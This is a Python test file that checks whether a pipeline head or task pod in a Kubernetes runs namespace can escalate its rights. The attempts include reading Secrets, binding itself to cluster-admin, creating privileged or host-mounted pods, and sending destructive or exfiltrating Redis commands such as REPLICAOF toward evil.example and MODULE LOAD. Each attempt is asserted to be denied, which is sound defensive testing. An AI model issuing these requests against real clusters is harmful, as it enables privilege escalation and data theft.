"""A pipeline that reaches for what is not its own: other Secrets, the Lease, Jobs, the node, Redis.

Heads of these tests run any script, so they do here what a hostile pipeline would do at most: with the head's own
account, with that of tasks, and with all that a pod of the runs' namespace can mount.
"""

import asyncio
import hashlib
import json
import secrets
import shlex
from typing import Any

import pytest

from tests.cluster.place import IMAGES, command, kubectl
from tests.cluster.release import Caller, Object, Release

pytestmark = [pytest.mark.cluster, pytest.mark.slow]

RUN_ID = "run-aaaaaaaaaaaaaaaa"

# Asks the API server with the account that the pod has; says of each try its name, the status, and why.
ASKING = """
import json, os, ssl, sys, urllib.error, urllib.request
where = "/var/run/secrets/kubernetes.io/serviceaccount/"
token, trust = open(where + "token").read(), ssl.create_default_context(cafile=where + "ca.crt")
server = "https://" + os.environ["KUBERNETES_SERVICE_HOST"] + ":" + os.environ["KUBERNETES_SERVICE_PORT"]
for name, method, path, body in json.loads(sys.argv[1]):
    kind = "application/merge-patch+json" if method == "PATCH" else "application/json"
    sent = None if body is None else json.dumps(body).encode()
    asked = urllib.request.Request(server + path, sent, {"Authorization": "Bearer " + token, "Content-Type": kind})
    asked.method = method
    try:
        with urllib.request.urlopen(asked, context=trust, timeout=60) as answer:
            print(json.dumps([name, answer.status, ""]), flush=True)
    except urllib.error.HTTPError as refusal:
        text = refusal.read().decode()
        why = next((word for word in ("PodSecurity", "cannot", "serviceaccount") if word in text), text)
        print(json.dumps([name, refusal.code, why]), flush=True)
"""

# Sends Redis one command after the other, each over a connection of its own; says what came back.
SENDING = r"""
import json, os, socket, sys
address = os.environ["REDIS_URL"].split("//")[1].split("/")[0].rpartition(":")
def packed(words):
    return b"*%d\r\n" % len(words) + b"".join(b"$%d\r\n%b\r\n" % (len(word), word) for word in words)
for name, user, words in json.loads(sys.argv[1]):
    with socket.create_connection((address[0], int(address[2])), timeout=60) as connection:
        said = connection.makefile("rb")
        if user:
            who = [b"AUTH", os.environ["REDIS_USERNAME"].encode(), os.environ["REDIS_PASSWORD"].encode()]
            connection.sendall(packed(who))
            assert said.readline() == b"+OK\r\n"
        connection.sendall(packed([word.encode() for word in words]))
        print(json.dumps([name, said.readline().decode().strip()]), flush=True)
"""


def script(code: str, tries: list[Any]) -> str:
    """What a shell runs to try all of these."""
    return f"python3 -IS -c {shlex.quote(code)} {shlex.quote(json.dumps(tries))}"


def told(output: str) -> dict[str, Any]:
    """What was said of each try."""
    rows = [json.loads(line) for line in output.splitlines() if line.startswith("[")]
    return {name: rest if len(rest) > 1 else rest[0] for name, *rest in rows}


def in_a_pod(release: Release, work: str, **spec: Any) -> str:
    """What a shell says in a pod of the runs' namespace, made by somebody who may make pods there."""
    name = f"hostile-{secrets.token_hex(3)}"
    container = {"name": "main", "image": IMAGES["head"], "command": ["bash", "-c", work], **spec.pop("container", {})}
    pod: Object = {
        "apiVersion": "v1",
        "kind": "Pod",
        # With the label of heads, to whom network policies open the way to Redis and to the API server.
        "metadata": {"name": name, "namespace": release.runs, "labels": {"nextflow-controller/role": "head"}},
        "spec": {"restartPolicy": "Never", "containers": [container], **spec},
    }
    command("kubectl", "create", "--filename", "-", stdin=json.dumps(pod))
    try:
        done = "--for=jsonpath={.status.phase}=Succeeded"
        kubectl("wait", f"pod/{name}", f"--namespace={release.runs}", done, "--timeout=120s")
        return kubectl("logs", name, f"--namespace={release.runs}")
    finally:
        kubectl("delete", "pod", name, f"--namespace={release.runs}", "--wait=false")


def reaches(release: Release) -> list[tuple[str, str, str, Any]]:
    """Calls to which nothing in the runs' namespace has a right."""
    own, runs = f"/api/v1/namespaces/{release.namespace}", f"/api/v1/namespaces/{release.runs}"
    leases = f"/apis/coordination.k8s.io/v1/namespaces/{release.namespace}/leases"
    jobs = f"/apis/batch/v1/namespaces/{release.runs}/jobs"
    roles = f"/apis/rbac.authorization.k8s.io/v1/namespaces/{release.runs}"
    binding = {
        "metadata": {"name": "hostile"},
        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "cluster-admin"},
        "subjects": [{"kind": "ServiceAccount", "name": "default", "namespace": release.runs}],
    }
    return [
        ("the release's Secrets", "GET", f"{own}/secrets", None),
        ("the tokens", "GET", f"{own}/secrets/{release.name}-tokens", None),
        ("the runs' Secrets", "GET", f"{runs}/secrets", None),
        ("the recorder's Secret", "GET", f"{runs}/secrets/{release.name}-recorder", None),
        ("a Secret of its own", "POST", f"{runs}/secrets", {"metadata": {"name": "hostile"}}),
        ("kube-system's Secrets", "GET", "/api/v1/namespaces/kube-system/secrets", None),
        ("all Secrets", "GET", "/api/v1/secrets", None),
        ("the settings", "GET", f"{own}/configmaps", None),
        ("the Leases", "GET", leases, None),
        ("the Lease", "GET", f"{leases}/{release.name}", None),
        ("to empty the Lease", "PATCH", f"{leases}/{release.name}", {"spec": {"holderIdentity": None}}),
        ("to delete the Lease", "DELETE", f"{leases}/{release.name}", None),
        ("the Jobs", "GET", jobs, None),
        ("to launch a Job", "PATCH", f"{jobs}/{RUN_ID}", {"spec": {"parallelism": 1}}),
        ("to end a Job", "DELETE", f"{jobs}/{RUN_ID}", None),
        ("a Job of its own", "POST", jobs, {"metadata": {"name": "hostile"}}),
        ("the functions' pods", "GET", f"{own}/pods", None),
        ("a pod beside the functions", "POST", f"{own}/pods", {"metadata": {"name": "hostile"}}),
        ("all pods", "GET", "/api/v1/pods", None),
        ("another's shell", "POST", f"{runs}/pods/hostile/exec?command=sh", None),
        ("to change a pod", "PATCH", f"{runs}/pods/hostile", {"metadata": {"labels": {"x": "y"}}}),
        ("a container in another's pod", "PATCH", f"{runs}/pods/hostile/ephemeralcontainers", {}),
        ("a token of another account", "POST", f"{runs}/serviceaccounts/default/token", {"spec": {}}),
        ("a right more", "POST", f"{roles}/rolebindings", binding),
        ("the nodes", "GET", "/api/v1/nodes", None),
        ("a kubelet", "GET", "/api/v1/nodes/any/proxy/pods", None),
        ("the namespaces", "GET", "/api/v1/namespaces", None),
    ]


def pods(release: Release) -> list[tuple[str, str, str, Any]]:
    """Pods that a head might make, and the last one may; as a trial, so that none is there afterwards."""

    def made(what: str, container: Any = None, **spec: Any) -> tuple[str, str, str, Any]:
        main = {"name": "main", "image": IMAGES["head"], "resources": {"requests": {"cpu": "1m"}}, **(container or {})}
        metadata = {"generateName": "hostile-"}
        body = {"apiVersion": "v1", "kind": "Pod", "metadata": metadata, "spec": {"containers": [main], **spec}}
        return what, "POST", f"/api/v1/namespaces/{release.runs}/pods?dryRun=All", body

    host = {"name": "host", "hostPath": {"path": "/"}}
    return [
        made("privileged", {"securityContext": {"privileged": True}}),
        made("capable", {"securityContext": {"capabilities": {"add": ["SYS_ADMIN"]}}}),
        made("unconfined", {"securityContext": {"seccompProfile": {"type": "Unconfined"}}}),
        made("with the node's files", volumes=[host]),
        made("with the node's network", hostNetwork=True),
        made("with the node's processes", hostPID=True),
        made("at the node's port", {"ports": [{"containerPort": 10250, "hostPort": 10250}]}),
        made("as the function run", serviceAccountName=f"{release.name}-run"),
        made("as the function cancel", serviceAccountName=f"{release.name}-cancel"),
        made("as any task", serviceAccountName=f"{release.name}-task"),
    ]


async def test_a_head_reaches_for_what_is_not_its_own(release: Release, caller: Caller) -> None:
    """By the token that its pod has: no Secret, no Lease, no Job, nobody else's pod, no way to the node."""
    asked = reaches(release)
    run_id = await caller.started(script(ASKING, [*asked, *pods(release)]))
    said = told(await caller.text(run_id))
    assert (await caller.ended(run_id))["status"] == "succeeded"
    assert said == {
        **{name: [403, "cannot"] for name, *_ in asked},
        "privileged": [403, "PodSecurity"],
        "capable": [403, "PodSecurity"],
        "unconfined": [403, "PodSecurity"],
        "with the node's files": [403, "PodSecurity"],
        "with the node's network": [403, "PodSecurity"],
        "with the node's processes": [403, "PodSecurity"],
        "at the node's port": [403, "PodSecurity"],
        "as the function run": [403, "serviceaccount"],
        "as the function cancel": [403, "serviceaccount"],
        "as any task": [201, ""],
    }


async def test_a_task_has_no_rights_at_all(release: Release) -> None:
    """Its pod has no token; one that has itself given one may not even look at its own namespace."""
    looks = (
        ("the runs' pods", "GET", f"/api/v1/namespaces/{release.runs}/pods", None),
        ("a log", "GET", f"/api/v1/namespaces/{release.runs}/pods/hostile/log", None),
    )
    asked = [*reaches(release), *looks, *pods(release)]
    account = f"{release.name}-task"
    left = await asyncio.to_thread(
        in_a_pod, release, "ls /var/run/secrets/kubernetes.io 2>&1 || true", serviceAccountName=account
    )
    assert "No such file" in left
    said = await asyncio.to_thread(
        in_a_pod, release, script(ASKING, asked), serviceAccountName=account, automountServiceAccountToken=True
    )
    assert told(said) == {name: [403, "cannot"] for name, *_ in asked}


async def test_redis_takes_log_lines_from_a_recorder_and_nothing_else(release: Release, caller: Caller) -> None:
    """From whoever has its password, as any pod of its namespace may; nothing at all from whoever has none."""
    other = f"nfc:log:{RUN_ID}:1"
    refused: dict[str, list[str]] = {
        "FLUSHALL": ["FLUSHALL"],
        "FLUSHDB": ["FLUSHDB"],
        "CONFIG GET": ["CONFIG", "GET", "*"],
        "CONFIG SET": ["CONFIG", "SET", "dir", "/data"],
        "EVAL": ["EVAL", "return 1", "0"],
        "FUNCTION": ["FUNCTION", "LIST"],
        "the slot": ["HGETALL", "nfc:slot"],
        "to write the slot": ["HSET", "nfc:slot", "run", RUN_ID],
        "to get": ["GET", "nfc:slot"],
        "to delete": ["DEL", "nfc:slot"],
        "to delete a log": ["DEL", other],
        "a stream of its own": ["XADD", "nfc:slot", "*", "t", "x"],
        "to read a log forward": ["XRANGE", other, "-", "+"],
        "to look around": ["KEYS", "*"],
        "SCAN": ["SCAN", "0"],
        "ACL": ["ACL", "LIST"],
        "to be more": ["ACL", "SETUSER", "recorder", "allcommands"],
        "MONITOR": ["MONITOR"],
        "INFO": ["INFO"],
        "SHUTDOWN": ["SHUTDOWN", "NOSAVE"],
        "REPLICAOF": ["REPLICAOF", "evil.example", "6379"],
        "MIGRATE": ["MIGRATE", "evil.example", "6379", "nfc:slot", "0", "1"],
        "to listen": ["SUBSCRIBE", "*"],
        "another database": ["SELECT", "1"],
    }
    taken = {
        "to append": ["XADD", other, "MAXLEN", "1", "*", "t", "x"],
        "to trim": ["XTRIM", other, "MAXLEN", "0"],
        "to let it go": ["EXPIRE", other, "1"],
    }
    # To whoever asks, as Redis has them switched off.
    off = {"DEBUG": ["DEBUG", "SLEEP", "1"], "MODULE": ["MODULE", "LOAD", "/data/x.so"]}
    tries = [
        *((name, True, words) for name, words in off.items()),
        *((f"{name}, of nobody", False, words) for name, words in {**refused, **taken, "PING": ["PING"]}.items()),
        *((name, True, words) for name, words in {**refused, **taken}.items()),
    ]
    env = {"envFrom": [{"secretRef": {"name": f"{release.name}-recorder"}}]}
    run_id = await caller.started("true")
    said = told(await asyncio.to_thread(in_a_pod, release, script(SENDING, tries), container=env))
    answers = {name: answer.split()[0] for name, answer in said.items()}
    assert {answers.pop(name) for name in off} <= {"-ERR", "-NOPERM"}
    trimmed = {name: answers.pop(name) for name in taken}
    assert answers == {
        **{f"{name}, of nobody": "-NOAUTH" for name in (*refused, *taken, "PING")},
        **dict.fromkeys(refused, "-NOPERM"),
    }
    assert [answer[:1] for answer in trimmed.values()] == ["$", ":", ":"]
    assert (await caller.ended(run_id))["status"] == "succeeded"


async def test_a_script_in_redis_may_do_no_more_than_its_caller(release: Release) -> None:
    """Recorders append by a script, and may load any: it has their own rights and no others."""
    code = "return redis.call('HGETALL', KEYS[1])"
    named = hashlib.sha1(code.encode(), usedforsecurity=False).hexdigest()
    tries = [
        ("load", True, ["SCRIPT", "LOAD", code]),
        ("call", True, ["EVALSHA", named, "1", "nfc:slot"]),
        ("call on a log", True, ["EVALSHA", named, "1", f"nfc:log:{RUN_ID}:1"]),
    ]
    env = {"envFrom": [{"secretRef": {"name": f"{release.name}-recorder"}}]}
    said = told(await asyncio.to_thread(in_a_pod, release, script(SENDING, tries), container=env))
    assert said["load"].startswith("$")
    refusals = [said["call"], said["call on a log"]]
    assert [words for words in refusals if not words.startswith("-") or "NOSCRIPT" in words] == []
